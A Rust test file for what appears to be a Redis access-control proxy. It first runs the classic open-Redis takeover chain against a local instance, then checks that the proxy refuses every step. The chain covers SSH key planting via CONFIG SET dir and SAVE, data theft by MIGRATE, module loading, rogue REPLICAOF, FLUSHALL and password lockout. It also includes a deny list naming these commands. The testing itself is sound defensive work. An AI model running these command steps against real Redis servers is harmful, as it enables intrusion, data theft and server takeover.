//! How an open Redis is taken over in the wild, step by step, tried for real: first directly, where every step works, then
//! through the proxy with the policy of the demo, where none does, whoever tries.

use std::net::TcpListener;
use std::path::{Path, PathBuf};

use crate::support::redis::free_port;
use crate::support::{Client, Proxy, Redis, wait_for};

/// The users and gates of `redkeep demo`.
const USERS: &str = "\
user default off
user admin on >secret ~* &* +@all
user app on >secret ~app:* ~key:* &app:* +@all -@dangerous
user readonly on >secret ~app:* +@read +@connection
";
const GATES: &str = "commands:\n  rename: { FLUSHALL: \"\", KEYS: \"KEYS_7f3a\" }\n  \
                     deny: [REPLICAOF, SLAVEOF, MIGRATE, FAILOVER, SHUTDOWN, SYNC, PSYNC]\n";

/// What the attacker plants.
const KEY: &str = "\n\nssh-ed25519 AAAA attacker\n\n";

/// A Redis as it is found in the wild, and what an attacker wants of it.
struct Scene {
    redis: Redis,
    /// Where the attacker wants to write: stands for `/root/.ssh`.
    victim: PathBuf,
    /// The attacker's own server, which says it is a master.
    rogue: TcpListener,
    /// Where the attacker wants the data.
    loot: Redis,
    loot_port: u16,
}

impl Scene {
    fn new() -> Scene {
        let redis = Redis::start(&["--enable-module-command", "yes"]);
        let victim = redis.dir().join("root-ssh");
        std::fs::create_dir(&victim).unwrap();
        assert_eq!(redis.client().ask("SET crown jewels"), "+OK\r\n");
        let loot_port = free_port();
        let loot = Redis::start(&["--port", &loot_port.to_string(), "--protected-mode", "no"]);
        let rogue = TcpListener::bind("127.0.0.1:0").unwrap();
        rogue.set_nonblocking(true).unwrap();
        Scene { redis, victim, rogue, loot, loot_port }
    }

    /// The classic chain. Steps of one line each; SAVE is what writes.
    fn steps(&self) -> Vec<(&'static str, Vec<String>)> {
        let words = |line: &str| line.split(' ').map(str::to_owned).collect::<Vec<String>>();
        let victim = self.victim.display();
        let rogue = self.rogue.local_addr().unwrap().port();
        let loot = self.loot_port;
        vec![
            ("plant a key", vec!["SET".into(), "planted".into(), KEY.into()]),
            ("choose the directory", words(&format!("CONFIG SET dir {victim}"))),
            ("choose the file", words("CONFIG SET dbfilename authorized_keys")),
            ("write it", words("SAVE")),
            ("steal by MIGRATE", words(&format!("MIGRATE 127.0.0.1 {loot} crown 0 1000 COPY"))),
            ("look at memory", words("DEBUG OBJECT crown")),
            ("load a module", words(&format!("MODULE LOAD {victim}/evil.so"))),
            ("out of the sandbox", words("EVAL return(redis.call('get','crown')) 0")),
            ("become a replica", words(&format!("REPLICAOF 127.0.0.1 {rogue}"))),
            ("by the old name", words(&format!("SLAVEOF 127.0.0.1 {rogue}"))),
        ]
    }

    fn planted(&self) -> bool {
        std::fs::read_dir(&self.victim).unwrap().count() > 0
    }

    fn is_stolen(&self) -> bool {
        self.loot.client().ask("EXISTS crown") == ":1\r\n"
    }

    fn is_replica(&self) -> bool {
        self.redis.client().ask("ROLE").contains("slave")
    }

    fn rogue_was_called(&self) -> bool {
        self.rogue.accept().is_ok()
    }
}

#[test]
fn every_step_works_on_an_open_redis() {
    let scene = Scene::new();
    let mut attacker = scene.redis.client();
    for (step, command) in scene.steps() {
        let reply = String::from_utf8_lossy(&attacker.call(&command)).into_owned();
        // There is no such module; Redis has tried to load it.
        let works = !reply.starts_with('-') || reply.contains("Error loading the extension");
        assert!(works, "{step}: {reply}");
    }
    let written = std::fs::read(scene.victim.join("authorized_keys")).unwrap();
    assert!(written.windows(KEY.len()).any(|window| window == KEY.as_bytes()), "the key is in the file");
    assert!(scene.is_stolen());
    assert!(scene.is_replica());
    wait_for("a call at the rogue master", || scene.rogue_was_called().then_some(()));
}

#[test]
fn no_step_works_through_the_proxy_whoever_tries() {
    let scene = Scene::new();
    let proxy = Proxy::with_users(&scene.redis, USERS, GATES);
    let before = state(&scene.redis, scene.redis.dir());
    for who in ["nobody", "readonly", "app", "admin"] {
        let login = || match who {
            "nobody" => proxy.tls(),
            user => proxy.tls().login(user, "secret"),
        };
        let mut attacker = login();
        for (step, command) in scene.steps() {
            // An administrator may write values and run scripts: that is no step out of Redis.
            let harmless = who == "admin" && ["SET", "EVAL", "SAVE"].contains(&command[0].as_str());
            if harmless {
                continue;
            }
            let reply = String::from_utf8_lossy(&attacker.call(&command)).into_owned();
            let refused = ["-NOPERM ", "-NOAUTH ", "-ERR "].iter().any(|code| reply.starts_with(code));
            assert!(refused, "{who}, {step}: {reply}");
            // Nor inside a transaction, nor in another spelling.
            let mut again = login();
            again.ask("MULTI");
            let spelled: Vec<String> = command.iter().map(|word| word.to_lowercase()).collect();
            let queued = String::from_utf8_lossy(&again.call(&spelled)).into_owned();
            let executed = again.ask("EXEC");
            // What a script calls is judged when it runs.
            let script = command[0] == "EVAL" && queued == "+QUEUED\r\n" && executed.starts_with("*1\r\n-");
            assert!(queued.starts_with('-') || script, "{who}, {step} in MULTI: {queued}");
            assert!(executed.starts_with('-') || script, "{who}, {step} at EXEC: {executed}");
        }
        ask_everything_else(&mut attacker, who);
    }
    assert!(!scene.planted(), "something was written");
    assert!(!scene.is_stolen());
    assert!(!scene.is_replica());
    assert!(!scene.rogue_was_called());
    assert_eq!(state(&scene.redis, scene.redis.dir()), before);
    proxy.assert_no_panic();
}

/// What else is done to a Redis that was found open: ransom, and shutting others out.
fn ask_everything_else(attacker: &mut Client, who: &str) {
    for line in ["FLUSHALL", "KEYS *", "DEBUG SEGFAULT", "SHUTDOWN NOSAVE", "SYNC", "CONFIG SET masterauth x"]
    {
        let reply = attacker.ask(line);
        assert!(reply.starts_with('-'), "{who}, {line}: {reply}");
    }
    if who != "admin" {
        for line in ["CONFIG SET requirepass mine", "ACL SETUSER default on nopass"] {
            let reply = attacker.ask(line);
            assert!(reply.starts_with('-'), "{who}, {line}: {reply}");
        }
    }
}

/// Keys, parameters and files of the server.
fn state(redis: &Redis, dir: &Path) -> Vec<String> {
    let mut direct = redis.client();
    let mut state: Vec<String> =
        ["DEBUG DIGEST", "CONFIG GET dir", "CONFIG GET dbfilename", "ROLE", "MODULE LIST"]
            .map(|line| direct.ask(line))
            .into();
    // Mirrored users are Redkeep's, with no more rights than their users have.
    let users = direct.ask("ACL LIST");
    let users =
        users.lines().filter(|line| line.starts_with("user ") && !line.starts_with("user redkeep-mirror:"));
    state.extend(users.map(str::to_owned));
    let mut files: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    files.sort();
    state.extend(files);
    state
}
